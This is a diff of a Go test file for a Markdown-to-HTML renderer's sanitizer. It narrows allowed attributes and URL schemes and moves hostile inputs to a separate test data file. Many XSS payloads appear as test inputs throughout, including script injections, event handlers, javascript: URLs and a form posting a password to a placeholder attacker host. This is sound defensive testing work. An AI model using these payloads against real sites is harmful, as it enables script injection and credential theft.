@@ -1,7 +1,9 @@
 package render
 
 import (
-	"net/url"
+	"os"
+	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -9,9 +11,43 @@ import (
 	"golang.org/x/net/html"
 )
 
-// safeAttributes are all attributes that may come out.
-var safeAttributes = set("href src cite alt width height title dir lang datetime open align colspan rowspan scope span start reversed type " +
-	"value checked disabled id class role")
+// safeAttributes are all attributes that may come out, by the elements that may have them.
+var safeAttributes = map[string]map[string]bool{
+	"a": set("href class role"), "img": set("src alt width height"), "input": set("type checked disabled"),
+	"blockquote": set("cite"), "q": set("cite"), "del": set("cite datetime"), "ins": set("cite datetime"), "time": set("datetime"),
+	"details": set("open"), "ol": set("start reversed type"), "li": set("value id"), "sup": set("id"), "code": set("class"), "span": set("class"),
+	"div": set("class role"), "th": set("align colspan rowspan scope"), "td": set("align colspan rowspan"), "col": set("span"), "colgroup": set("span"),
+	"h1": set("id"), "h2": set("id"), "h3": set("id"), "h4": set("id"), "h5": set("id"), "h6": set("id"),
+}
+
+// safeEverywhere are the attributes that any element may have.
+var safeEverywhere = set("title dir lang")
+
+// safeValues is what must stand in the attributes that a page around acts upon.
+var safeValues = map[string]*regexp.Regexp{
+	"a class":    regexp.MustCompile(`^footnote-(ref|backref)$`),
+	"a role":     regexp.MustCompile(`^doc-(noteref|backlink)$`),
+	"div class":  regexp.MustCompile(`^footnotes$`),
+	"div role":   regexp.MustCompile(`^doc-endnotes$`),
+	"code class": regexp.MustCompile(`^language-[\w.+#-]+$`),
+	"span class": regexp.MustCompile(`^[a-z][a-z0-9]{0,4}$`),
+	"li id":      regexp.MustCompile(`^fn:\d+$`),
+	"sup id":     regexp.MustCompile(`^fnref\d*:\d+$`),
+	"input type": regexp.MustCompile(`^checkbox$`),
+	"dir":        regexp.MustCompile(`^(ltr|rtl|auto)$`),
+}
+
+// schemeOf returns the scheme of an address as browsers read it: they leave out line breaks and tabs anywhere, and blanks and control
+// characters in front.
+func schemeOf(address string) string {
+	address = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(address)
+	address = strings.TrimLeftFunc(address, func(r rune) bool { return r <= ' ' })
+	scheme, _, found := strings.Cut(address, ":")
+	if !found || strings.ContainsAny(scheme, "/?#") {
+		return ""
+	}
+	return strings.ToLower(scheme)
+}
 
 // around are elements that a page may put what it shows into; none of them may be ended from within.
 var around = []string{"blockquote", "table", "tbody", "tr", "td", "ul", "li", "dl", "dd", "ruby", "figure", "details", "div", "section"}
@@ -67,13 +103,17 @@ func checkSafe(t *testing.T, rendered Rendered) {
 			t.Errorf("<%s> stands outside of its place: %q", node.Data, rendered.HTML)
 		}
 		for _, attribute := range node.Attr {
-			if !safeAttributes[attribute.Key] {
-				t.Errorf("attribute %s in %q", attribute.Key, rendered.HTML)
+			if !safeAttributes[node.Data][attribute.Key] && !safeEverywhere[attribute.Key] {
+				t.Errorf("attribute %s of <%s> in %q", attribute.Key, node.Data, rendered.HTML)
+			}
+			for _, what := range []string{node.Data + " " + attribute.Key, attribute.Key} {
+				if value := safeValues[what]; value != nil && !value.MatchString(attribute.Val) {
+					t.Errorf("%s=%q of <%s> in %q", attribute.Key, attribute.Val, node.Data, rendered.HTML)
+				}
 			}
 			switch attribute.Key {
 			case "href", "src", "cite":
-				address, err := url.Parse(attribute.Val)
-				if err != nil || !slices.Contains([]string{"", "http", "https", "mailto"}, strings.ToLower(address.Scheme)) {
+				if !slices.Contains([]string{"", "http", "https", "mailto"}, schemeOf(attribute.Val)) {
 					t.Errorf("address %q in %q", attribute.Val, rendered.HTML)
 				}
 			case "id":
@@ -81,9 +121,6 @@ func checkSafe(t *testing.T, rendered Rendered) {
 					t.Errorf("id %q twice in %q", attribute.Val, rendered.HTML)
 				}
 				ids[attribute.Val] = true
-				if node.Data != "li" && node.Data != "sup" && !headings[node.Data] {
-					t.Errorf("an id on <%s> in %q", node.Data, rendered.HTML)
-				}
 			}
 		}
 	}
@@ -92,49 +129,38 @@ func checkSafe(t *testing.T, rendered Rendered) {
 	}
 }
 
+// TestHostilePosts goes through testdata/xss.txt. More of them, whose control characters a file of text can't hold, stand below.
+func TestHostilePosts(t *testing.T) {
+	for name, source := range readHostile(t) {
+		t.Run(name, func(t *testing.T) { checkSafe(t, render(t, source)) })
+	}
+}
+
+// readHostile returns the texts of testdata/xss.txt by name.
+func readHostile(t *testing.T) map[string]string {
+	t.Helper()
+	file, err := os.ReadFile(filepath.Join("testdata", "xss.txt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	sources := map[string]string{}
+	parts := strings.Split("\n"+string(file), "\n=== ")
+	for _, part := range parts[1:] {
+		name, source, _ := strings.Cut(part, "\n")
+		if source == "" || sources[name] != "" {
+			t.Fatalf("xss.txt: no text, or two, for %q", name)
+		}
+		sources[name] = source
+	}
+	return sources
+}
+
 func TestMarkdownIsSafe(t *testing.T) {
 	sources := []string{
-		// scripts and what is like them
-		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
-		"<script\n>alert(1)</script\n>", `<script/x>alert(1)</script>`, `<<script>alert(1)//<</script>`, `<script>alert(1)`,
-		`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=x></object>`, `<embed src=x>`,
-		`<applet code=x>`, `<frameset onload=alert(1)>`, `<portal src=x>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-		`<style>*{background:url(javascript:alert(1))}</style>`, `<link rel=stylesheet href=//evil.example>`, `<style>@import '//evil.example';`,
-		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<base href="//evil.example/">`, `<title>x</title>`, `<template><script>alert(1)</script></template>`,
-		// forms
-		`<form action="//evil.example"><input name=password type=password><button>Go</button></form>`, `<input type=text>`, `<input disabled>`,
-		`<input type=checkbox>`, `<input type=image src=x onerror=alert(1)>`, `<textarea><img src=x onerror=alert(1)></textarea>`, `<select><option>a</select>`,
-		`<button formaction=javascript:alert(1)>x</button>`, `<isindex action=javascript:alert(1)>`, `<keygen autofocus onfocus=alert(1)>`,
-		// events
-		`<img src=x onerror=alert(1)>`, `<img src=x:x onerror  =  alert(1)>`, `<p onclick="alert(1)">x</p>`, `<a href=x ONMOUSEOVER=alert(1)>x</a>`,
-		`<details open ontoggle=alert(1)>x</details>`, `<img/src=x/onerror=alert(1)>`, "<img src=x\nonerror\n=alert(1)>", `<img src="x" onerror="alert(1)"/>`,
-		`<b/onpointerenter=alert(1)>x</b>`, `<body onload=alert(1)>`, `<p style="behavior:url(x)" onfocus=alert(1) tabindex=0 autofocus>`, `<img src='x'onerror=alert(1)>`,
-		`<p title="x" "onclick=alert(1)">x</p>`, "<p title=`x` onclick=alert(1)>x</p>", `# a {onclick="alert(1)" style="color:red"}`,
-		// addresses
-		`[a](javascript:alert(1))`, `[a](JaVaScRiPt:alert(1))`, `[a](javascript&colon;alert(1))`, `[a](&#106;avascript:alert(1))`, `[a](&#x6A&#x61vascript:alert(1))`,
-		`[a](java&#9;script:alert(1))`, `[a](java&#10;script:alert(1))`, `[a](java&Tab;script:alert(1))`, `[a](&#1;javascript:alert(1))`, `[a](<java` + "\t" + `script:alert(1)>)`,
-		`[a](javascript%3Aalert(1))`, `[a](vbscript:msgbox(1))`, `[a](data:text/html,<script>alert(1)</script>)`, `[a](data:text/html;base64,PHNjcmlwdD4=)`,
-		`[a](data:image/svg+xml,<svg onload=alert(1)>)`, `![a](data:image/svg+xml;base64,PHN2Zz4=)`, `![a](data:image/png;base64,iVBORw0KGgo=)`, `![a](javascript:alert(1))`,
-		`<javascript:alert(1)>`, `<a href="  javascript:alert(1)">x</a>`, `<a href="java` + "\n" + `script:alert(1)">x</a>`, `<a href="&#x1;javascript:alert(1)">x</a>`,
-		`<a href="javascript` + "\u00a0" + `:alert(1)">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="blob:x">x</a>`, `<a href="filesystem:x">x</a>`, `<a href="ftp://x">x</a>`,
-		`<blockquote cite="javascript:alert(1)">x</blockquote>`, `<a xlink:href="javascript:alert(1)">x</a>`, `<a href=x ping=//evil.example>x</a>`, `<a href=x target=_blank>x</a>`,
-		`[a]: javascript:alert(1)` + "\n\n[a]", `[a](<javascript:alert(1)> "t")`, `[a](x "\" onclick=alert(1) x=\"")`, `![" onerror="alert(1)](x)`, `![a](x"onerror="alert(1))`,
-		`[a](//evil.example)`, `[a](\\evil.example)`, `<a href="jav&#x0A;ascript:alert(1)">`, `<a href="https:javascript:alert(1)">x</a>`,
-		// pictures and other vocabularies
-		`<img srcset="javascript:alert(1) 1x">`, `<picture><source srcset=x></picture>`, `<video src=x onerror=alert(1)>`, `<audio><source onerror=alert(1)></audio>`,
-		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg/><img src=x onerror=alert(1)>`,
-		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
-		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><mi//xlink:href="data:x,<script>alert(4)</script>">`,
-		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
-		// what parsers read differently
-		`<!--><img src=x onerror=alert(1)>-->`, `<!--!><script>alert(1)</script>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`,
-		`<!DOCTYPE x [<!ENTITY y "z">]>`, `</script><img src=x onerror=alert(1)>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`, `<plaintext><script>`,
-		`<a title="</a><img src=x onerror=alert(1)>">`, `<p title='"><script>alert(1)</script>'>`, `<x<img src=x onerror=alert(1)>`, `</ <img src=x onerror=alert(1)>`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
-		"`<script>`", "```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "    <script>alert(1)</script>", `\<script>alert(1)\</script>`,
-		`<img alt="` + "`" + `><script>alert(1)</script>">`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, "<\x00script>alert(1)</script>", "<scr\x01ipt>alert(1)</script>", `<scr&#1;ipt>alert(1)</script>`,
-		// style, classes, ids
-		`<p style="position:fixed;inset:0">x</p>`, `<p class="modal">x</p>`, `<span class="fixed inset-0">x</span>`, `<a id=body name=cookie href=x>x</a>`, `<img name=getElementById src=x>`,
-		`<p id=fn:1>x</p>`, `<ol><li id=fn:1>a<li id=fn:1>b</ol>`, `<h1 id="a">x</h1><h1 id="a">y</h1>`, `<h1 id="javascript:x">x</h1>`, `<p slot=x is=y data-x=1 contenteditable accesskey=x>z</p>`,
+		// what a file of text can't hold
+		"<\x00script>alert(1)</script>", "<scr\x01ipt>alert(1)</script>", `<scr&#1;ipt>alert(1)</script>`, `<a href="javascript` + "\u00a0" + `:alert(1)">x</a>`,
+		"[a](java\rscript:alert(1))", "<img src=x\x0conerror=alert(1)>", "<img\x0bsrc=x\x0bonerror=alert(1)>", "[a](\x1bjavascript:alert(1))", "<a href=\"\xc0javascript:alert(1)\">x</a>",
+		"<script\xff>alert(1)</script>", "\ufeff<script>alert(1)</script>", "<img src=x\u2028onerror=alert(1)>", "<script>/*\r\n\r\n*/alert(1)</script>",
 		// what ends where it didn't begin
 		`</div></div></section></body></html>x`, `<div><div>`, `<table><tr><td>`, `</table></td></tr>`, `<td>x</td>`, `<li>x`, `<tr><td>x`, `<b><i>x</b>y</i>`, `<p><table><p></table>`,
 		`<ul><li><table></ul>x`, `<a href=x><a href=y>z`, `<h1><div><h2>x</h1>`, `<code><div></code>`, `<details><summary>x`, `<dl><dt><dl></dl><dd>`, `<caption><col><thead>`, `<ruby><rt><ruby>`, `<colgroup><col></table>`,
